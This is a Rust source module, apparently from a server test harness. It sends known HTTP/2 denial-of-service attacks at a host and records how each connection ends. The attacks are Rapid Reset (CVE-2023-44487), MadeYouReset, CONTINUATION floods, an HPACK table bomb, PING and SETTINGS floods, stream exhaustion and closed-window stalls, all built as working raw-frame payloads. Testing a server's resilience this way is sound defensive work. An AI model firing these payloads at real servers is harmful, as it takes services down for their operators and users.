//! Attacks by HTTP/2 clients. Each connection is one attack; a label says how the host ended it.

use std::io::Write;
use std::thread::sleep;
use std::time::Duration;

use anyhow::Result;

use super::case::{Scene, Tally};
use super::h2::{self, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame};

/// How long the host may take to end a connection that has misbehaved.
const PATIENCE: Duration = Duration::from_millis(300);
/// Between attacks of one attacker: what is measured is the host, not how busy its clients can keep the machine.
const PAUSE: Duration = Duration::from_millis(50);

/// Opens a connection, sends something, and looks how it ends.
fn send(scene: &Scene<'_>, bytes: &[u8]) -> String {
    let Ok(mut stream) = h2::connect(scene.addr(), None) else { return "refused".to_owned() };
    // A host that has closed takes no more.
    let _ = stream.write_all(bytes);
    h2::end(&mut stream, PATIENCE).0
}

/// Requests that are taken back at once (CVE-2023-44487), as fast as the connection takes them.
pub fn rapid_reset(scene: &Scene<'_>) -> Result<Tally> {
    let request = h2::get(scene.addr(), "/hello");
    let burst: Vec<u8> = (0..2000_u32)
        .flat_map(|number| {
            let stream = number * 2 + 1;
            let asked = frame(HEADERS, END_STREAM | END_HEADERS, stream, &request);
            [asked, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
        })
        .collect();
    Ok(scene.each(4, PAUSE, |_| send(scene, &burst)))
}

/// Requests that make the host reset them (a window update of zero), which costs it more than the client ("MadeYouReset").
pub fn made_to_reset(scene: &Scene<'_>) -> Result<Tally> {
    const WINDOW_UPDATE: u8 = 8;
    let request = h2::get(scene.addr(), "/hello");
    let burst: Vec<u8> = (0..2000_u32)
        .flat_map(|number| {
            let stream = number * 2 + 1;
            let asked = frame(HEADERS, END_STREAM | END_HEADERS, stream, &request);
            [asked, frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes())].concat()
        })
        .collect();
    Ok(scene.each(4, PAUSE, |_| send(scene, &burst)))
}

/// A head that never ends (CVE-2024-24549 and its kin).
pub fn continuation(scene: &Scene<'_>) -> Result<Tally> {
    let first = frame(HEADERS, END_STREAM, 1, &h2::get(scene.addr(), "/hello"));
    let more = frame(CONTINUATION, 0, 1, &h2::fields(&[("x", &"y".repeat(8000))]));
    let bytes = [first, more.repeat(200)].concat();
    Ok(scene.each(4, PAUSE, |_| send(scene, &bytes)))
}

/// The same with frames that hold nothing.
pub fn empty_continuation(scene: &Scene<'_>) -> Result<Tally> {
    let first = frame(HEADERS, END_STREAM, 1, &h2::get(scene.addr(), "/hello"));
    let bytes = [first, frame(CONTINUATION, 0, 1, &[]).repeat(20_000)].concat();
    Ok(scene.each(4, PAUSE, |_| send(scene, &bytes)))
}

/// A few bytes that stand for four megabytes of headers: one entry of the table, named again and again.
pub fn table_bomb(scene: &Scene<'_>) -> Result<Tally> {
    let mut block = h2::get(scene.addr(), "/hello");
    // A literal that is put into the table, then its index, a byte each.
    block.extend([0x40, 1, b'x']);
    h2::length(&mut block, 3900, 7, 0);
    block.extend([b'y'; 3900]);
    block.extend([0x80 | 62; 1000]);
    let bytes = frame(HEADERS, END_STREAM | END_HEADERS, 1, &block);
    Ok(scene.each(4, PAUSE, |_| {
        let Ok(mut stream) = h2::connect(scene.addr(), None) else { return "refused".to_owned() };
        let _ = stream.write_all(&bytes);
        match h2::end(&mut stream, PATIENCE) {
            (end, 0, 0) => end,
            (_, _, 1..) => "stream reset".to_owned(),
            _ => "answered".to_owned(),
        }
    }))
}

/// What wants an answer each, and nobody reads them.
pub fn pings(scene: &Scene<'_>) -> Result<Tally> {
    let bytes = frame(PING, 0, 0, &[7; 8]).repeat(50_000);
    Ok(scene.each(4, PAUSE, |_| send(scene, &bytes)))
}

/// The same with settings.
pub fn settings(scene: &Scene<'_>) -> Result<Tally> {
    let bytes = frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(20_000);
    Ok(scene.each(4, PAUSE, |_| send(scene, &bytes)))
}

/// As many requests at once as the host allows and more, over many connections, for answers that take their time.
pub fn streams(scene: &Scene<'_>) -> Result<Tally> {
    let request = h2::get(scene.addr(), "/drip?n=2&ms=300");
    let burst: Vec<u8> =
        (0..300_u32).flat_map(|number| frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &request)).collect();
    Ok(scene.each(16, PAUSE, |_| {
        let Ok(mut stream) = h2::connect(scene.addr(), None) else { return "refused".to_owned() };
        let _ = stream.write_all(&burst);
        let (end, answered, resets) = h2::end(&mut stream, Duration::from_millis(700));
        match (end.as_str(), answered, resets) {
            ("open", 100.., _) => "answered or refused".to_owned(),
            ("open", ..) => format!("open with {} answers", answered / 50 * 50),
            (end, ..) => end.to_owned(),
        }
    }))
}

/// Large answers of which no byte is taken: the window is closed from the beginning.
pub fn closed_window(scene: &Scene<'_>) -> Result<Tally> {
    let request = h2::get(scene.addr(), "/abort");
    let burst: Vec<u8> =
        (0..64_u32).flat_map(|number| frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &request)).collect();
    let mut open = Vec::new();
    for _ in 0..4 {
        let mut stream = h2::connect(scene.addr(), Some(0))?;
        stream.write_all(&burst)?;
        open.push(stream);
        sleep(Duration::from_millis(20));
    }
    sleep(scene.left());
    let mut tally = Tally::default();
    for stream in &mut open {
        tally.add(match h2::end(stream, Duration::from_millis(50)) {
            (end, 0, _) => end,
            (end, _, 0) => format!("{end}, heads only"),
            (end, ..) => format!("{end}, streams reset"),
        });
    }
    Ok(tally)
}
